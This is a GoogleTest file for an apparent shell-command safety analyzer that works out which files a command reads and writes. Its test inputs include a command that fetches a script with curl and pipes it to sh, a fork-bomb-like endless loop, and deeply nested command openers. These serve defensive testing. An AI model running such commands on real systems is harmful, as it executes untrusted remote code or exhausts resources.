#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>

#include "tests/support/cases.h"
#include "tests/support/effects_scene.h"

namespace {

std::vector<std::string> sorted(std::vector<std::string> paths) {
  std::ranges::sort(paths);
  return paths;
}

class EffectCases : public testing::TestWithParam<const char*> {};

TEST_P(EffectCases, CommandTouchesWhatIsWanted) {
  support::EffectsScene scene;
  for (const auto& line : support::read_cases(std::string("effects/") + GetParam())) {
    const auto effects = scene.effects(line["in"]);
    EXPECT_EQ(sorted(scene.writes(effects)), sorted(line["writes"].get<std::vector<std::string>>()))
        << line["id"] << ": " << line["in"];
    EXPECT_EQ(sorted(scene.reads(effects)), sorted(line["reads"].get<std::vector<std::string>>()))
        << line["id"] << ": " << line["in"];
    EXPECT_EQ(!effects.unknown.empty(), line.value("unknown", false))
        << line["id"] << ": " << line["in"];
  }
}

TEST_P(EffectCases, SpansLieInsideTheCommand) {
  support::EffectsScene scene;
  for (const auto& line : support::read_cases(std::string("effects/") + GetParam())) {
    const std::string command = line["in"];
    for (const guards::Effect& effect : scene.effects(command).list) {
      EXPECT_LE(effect.span.begin, effect.span.end) << command;
      EXPECT_LE(effect.span.end, command.size()) << command;
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Families, EffectCases,
                         testing::Values("archives.jsonl", "control.jsonl", "coreutils.jsonl",
                                         "facts.jsonl", "filters.jsonl", "find.jsonl", "git.jsonl",
                                         "names.jsonl", "nested.jsonl", "programs.jsonl",
                                         "redirects.jsonl", "text_tools.jsonl", "tools.jsonl",
                                         "variables.jsonl", "wrappers.jsonl"));

TEST(Effects, HostileNestingEndsInUnknownSoon) {
  support::EffectsScene scene;
  for (const char* opener : {"$(", "((", "bash -c '", "<<E\n", "\"$("}) {
    std::string command = "echo ";
    for (int i = 0; i < 20'000; ++i) command += opener;
    const auto effects = scene.effects(command);
    EXPECT_LT(effects.list.size(), 1000U) << opener;
  }
}

TEST(Effects, EndlessLoopEndsInUnknown) {
  support::EffectsScene scene;
  const auto effects = scene.effects("f() { f; f; }; while :; do echo x >> n; f; done");
  EXPECT_FALSE(effects.unknown.empty());
}

TEST(Effects, ProgramFromTheNetworkIsSaidSo) {
  support::EffectsScene scene;
  const auto effects = scene.effects("curl -s https://example.com/x | sh");
  ASSERT_EQ(effects.unknown.size(), 1U);
  EXPECT_TRUE(effects.unknown[0].program_from_pipe);
  EXPECT_TRUE(effects.unknown[0].program_from_network);
}

}  // namespace
